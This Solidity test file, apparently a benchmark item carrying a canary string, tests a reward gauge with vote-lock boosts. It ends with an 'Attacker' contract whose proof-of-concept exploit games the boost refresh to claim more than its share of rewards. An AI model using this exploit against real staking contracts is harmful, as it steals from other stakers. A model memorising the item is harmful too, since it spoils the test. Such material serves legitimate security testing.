// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./RewardGauge.sol";
import {Pausable} from "@openzeppelin/contracts@5.4.0/utils/Pausable.sol";
import "./context/VoteLock.sol";

// assay-canary-e80fb0c9-e92a-4743-ae2d-b45738cbc50b

interface Vm {
    function warp(uint256 timestamp) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

abstract contract Token is ERC20 {
    address private immutable maker = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "maker only");
        _mint(to, amount);
    }
}

contract StakeToken is Token {
    constructor() ERC20("Stake", "STK") {}
}

contract VoteToken is Token {
    constructor() ERC20("Vote", "VOT") {}
}

contract RewardToken is Token {
    constructor() ERC20("Reward", "RWD") {}
}

/// Tries calls from within another, as a token that calls back.
contract Hook is Token {
    address private _at;
    bytes[] private _calls;
    bool private _armed;
    bool public tried;

    constructor() ERC20("Hook", "HOOK") {}

    function aim(address at, bytes[] memory calls) external {
        _at = at;
        _calls = calls;
    }

    /// Makes a call that calls back.
    function begin(bytes calldata call_) external {
        _armed = true;
        (bool done, ) = _at.call(call_);
        require(done && !_armed, "not begun");
    }

    /// Makes all calls, none from within another.
    function each() external {
        for (uint256 i = 0; i < _calls.length; i++) {
            (bool done, ) = _at.call(_calls[i]);
            require(done, "refused without the lock");
        }
    }

    function _update(address from, address to, uint256 amount) internal override {
        super._update(from, to, amount);
        if (!_armed) return;
        _armed = false;
        for (uint256 i = 0; i < _calls.length; i++) {
            (bool done, bytes memory answer) = _at.call(_calls[i]);
            require(!done && bytes4(answer) == ReentrancyGuard.ReentrancyGuardReentrantCall.selector, "not locked");
        }
        tried = true;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_790_000_000;

    StakeToken public stakeToken;
    VoteToken public voteToken;
    RewardToken public reward;
    VoteLock public voteLock;
    RewardGauge public gauge;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        stakeToken = new StakeToken();
        voteToken = new VoteToken();
        reward = new RewardToken();
        voteLock = new VoteLock(voteToken);
        gauge = new RewardGauge(stakeToken, voteLock, address(this));
        gauge.grantRole(gauge.FUNDER_ROLE(), address(this));
        gauge.grantRole(gauge.GUARDIAN_ROLE(), address(this));
        gauge.addStream(address(reward), 7 days);
        reward.mint(address(this), 100_000e18);
        reward.approve(address(gauge), 100_000e18);
        stakeToken.mint(ANA, 4_000e18);
        voteToken.mint(ANA, 4_000e18);
        stakeToken.mint(BEN, 1_000e18);
        voteToken.mint(BEN, 1_000e18);
        vm.startPrank(ANA);
        voteToken.approve(address(voteLock), 4_000e18);
        voteLock.lock(4_000e18, START + 400 days);
        stakeToken.approve(address(gauge), 4_000e18);
        gauge.stake(4_000e18);
        vm.stopPrank();
        gauge.fund(address(reward), 7_000e18);
        mallory = new Attacker(gauge, voteLock);
        stakeToken.mint(address(mallory), 1_000e18);
        voteToken.mint(address(mallory), 1_000e18);
    }

    function near(uint256 a, uint256 b) private pure returns (bool) {
        return (a > b ? a - b : b - a) < 1e16;
    }

    function test_Regular() public {
        require(gauge.weightOf(ANA) == 4_000e18 && gauge.streamCount() == 1, "boosted");
        vm.startPrank(BEN);
        stakeToken.approve(address(gauge), 1_000e18);
        gauge.stake(1_000e18);
        require(gauge.weightOf(BEN) == 400e18 && gauge.totalWeight() == 4_400e18, "not boosted");
        voteToken.approve(address(voteLock), 1_000e18);
        voteLock.lock(500e18, START + 40 days);
        gauge.refresh(BEN);
        require(gauge.weightOf(BEN) == 700e18 && gauge.totalStaked() == 5_000e18, "half boosted");
        vm.stopPrank();

        vm.warp(START + 7 days);
        uint256 share = uint256(7_000e18) * 7 / 47;
        require(near(gauge.claimable(BEN, address(reward)), share), "a share");
        vm.prank(BEN);
        gauge.claim();
        vm.prank(ANA);
        gauge.claim();
        require(near(reward.balanceOf(BEN), share) && near(reward.balanceOf(ANA), 7_000e18 - share), "claimed");

        // The lock ends, and the boost with it.
        vm.warp(START + 41 days);
        gauge.refresh(BEN);
        require(gauge.weightOf(BEN) == 400e18, "boost is over");
        vm.startPrank(BEN);
        voteLock.unlock();
        gauge.unstake(600e18);
        require(gauge.stakeOf(BEN) == 400e18 && gauge.weightOf(BEN) == 160e18, "less");
        gauge.unstake(400e18);
        vm.stopPrank();
        require(stakeToken.balanceOf(BEN) == 1_000e18 && voteToken.balanceOf(BEN) == 1_000e18, "all back");

        // A second period, in the middle of which more is paid in, and without stakers in the end.
        gauge.fund(address(reward), 700e18);
        vm.warp(block.timestamp + 3 days);
        gauge.fund(address(reward), 1_000e18);
        vm.warp(block.timestamp + 6 days);
        vm.prank(ANA);
        gauge.unstake(4_000e18);
        require(near(gauge.owed(address(reward), ANA), 300e18 + uint256(1_400e18) * 6 / 7), "of both");
        vm.warp(block.timestamp + 2 days);
        gauge.fund(address(reward), 500e18);
        (, uint256 rate,,,,) = gauge.streams(address(reward));
        require(near(rate * 7 days, 700e18), "what nobody earned is paid later");

        gauge.pause();
        gauge.unpause();
        gauge.addStream(address(0xBEEF), 1 days);
        bytes32 role = gauge.GUARDIAN_ROLE();
        gauge.revokeRole(role, address(this));
        gauge.renounceRole(role, address(this));
        require(!gauge.hasRole(role, address(this)), "no role");
    }

    function missing(address who, bytes32 role) private {
        vm.prank(who);
        vm.expectRevert(abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, who, role));
    }

    function test_RefusesStrangers() public {
        bytes32 admin = gauge.DEFAULT_ADMIN_ROLE();
        bytes32 funder = gauge.FUNDER_ROLE();
        bytes32 guardian = gauge.GUARDIAN_ROLE();
        missing(ANA, admin);
        gauge.addStream(address(0xBEEF), 1 days);
        missing(ANA, funder);
        gauge.fund(address(reward), 1e18);
        missing(ANA, guardian);
        gauge.pause();
        gauge.pause();
        missing(ANA, admin);
        gauge.unpause();
    }

    function test_RefusesStreams() public {
        vm.expectRevert("RewardGauge: zero token");
        gauge.addStream(address(0), 1 days);
        vm.expectRevert("RewardGauge: staked token");
        gauge.addStream(address(stakeToken), 1 days);
        vm.expectRevert("RewardGauge: stream exists");
        gauge.addStream(address(reward), 1 days);
        vm.expectRevert("RewardGauge: bad duration");
        gauge.addStream(address(0xBEEF), 1 days - 1);
        vm.expectRevert("RewardGauge: bad duration");
        gauge.addStream(address(0xBEEF), 365 days + 1);
        for (uint160 i = 1; i < 6; ++i) {
            gauge.addStream(address(i), 1 days);
        }
        vm.expectRevert("RewardGauge: too many streams");
        gauge.addStream(address(0xBEEF), 1 days);
        vm.expectRevert("RewardGauge: no stream");
        gauge.fund(address(0xBEEF), 1e18);
        vm.warp(START + 8 days);
        vm.expectRevert("RewardGauge: too little");
        gauge.fund(address(reward), 1);
    }

    function test_RefusesStakes() public {
        vm.startPrank(ANA);
        vm.expectRevert("RewardGauge: zero amount");
        gauge.stake(0);
        vm.expectRevert("RewardGauge: zero amount");
        gauge.unstake(0);
        vm.expectRevert("RewardGauge: more than staked");
        gauge.unstake(4_000e18 + 1);
        vm.stopPrank();
        gauge.pause();
        vm.prank(ANA);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        gauge.stake(1);
    }

    function test_RefusesReentry() public {
        Hook hook = new Hook();
        gauge.addStream(address(hook), 1 days);
        gauge.grantRole(gauge.FUNDER_ROLE(), address(hook));
        hook.mint(address(hook), 200e18);
        stakeToken.mint(address(hook), 200e18);
        vm.startPrank(address(hook));
        hook.approve(address(gauge), 200e18);
        stakeToken.approve(address(gauge), 200e18);
        gauge.stake(100e18);
        gauge.fund(address(hook), 100e18);
        vm.stopPrank();
        vm.warp(START + 1 days);
        bytes[] memory calls = new bytes[](5);
        calls[0] = abi.encodeCall(gauge.fund, (address(hook), 1e18));
        calls[1] = abi.encodeCall(gauge.stake, (1e18));
        calls[2] = abi.encodeCall(gauge.unstake, (1e18));
        calls[3] = abi.encodeCall(gauge.refresh, (address(hook)));
        calls[4] = abi.encodeCall(gauge.claim, ());
        hook.aim(address(gauge), calls);
        hook.begin(calls[4]);
        require(hook.tried(), "not called back");
        hook.each();
    }

    function test_RefusesToBegin() public {
        vm.expectRevert("RewardGauge: zero token");
        new RewardGauge(IERC20(address(0)), voteLock, address(this));
        vm.expectRevert("RewardGauge: zero lock");
        new RewardGauge(stakeToken, IVoteLock(address(0)), address(this));
        vm.expectRevert("GaugeAdmin: zero admin");
        new RewardGauge(stakeToken, voteLock, address(0));
    }

    function test_RefusesLocks() public {
        vm.expectRevert("VoteLock: zero token");
        new VoteLock(IERC20(address(0)));
        vm.startPrank(BEN);
        voteToken.approve(address(voteLock), 1_000e18);
        vm.expectRevert("VoteLock: too short");
        voteLock.lock(1e18, START + 30 days - 1);
        vm.expectRevert("VoteLock: too long");
        voteLock.lock(1e18, START + 730 days + 1);
        vm.expectRevert("VoteLock: nothing to lock");
        voteLock.lock(0, START + 40 days);
        vm.expectRevert("VoteLock: no lock");
        voteLock.unlock();
        vm.stopPrank();
        vm.startPrank(ANA);
        vm.expectRevert("VoteLock: shorter than before");
        voteLock.lock(0, START + 400 days - 1);
        vm.expectRevert("VoteLock: not yet");
        voteLock.unlock();
        vm.stopPrank();
    }

    function exploit() public {
        mallory.enter();
        vm.warp(START + 7 days);
        mallory.leave(ANA);
    }

    function test_Exploit() public {
        exploit();
        require(reward.balanceOf(address(mallory)) >= 1_500e18, "no more than its share");
    }

    function target() public view returns (address) {
        return address(gauge);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    RewardGauge private gauge;
    VoteLock private voteLock;

    constructor(RewardGauge gauge_, VoteLock voteLock_) {
        gauge = gauge_;
        voteLock = voteLock_;
    }

    function enter() external {
        gauge.stakeToken().approve(address(gauge), 1_000e18);
        gauge.stake(1_000e18);
    }

    function leave(address other) external {
        gauge.refresh(other);
        voteLock.token().approve(address(voteLock), 1_000e18);
        voteLock.lock(1_000e18, block.timestamp + 30 days);
        gauge.refresh(address(this));
        gauge.claim();
    }
}
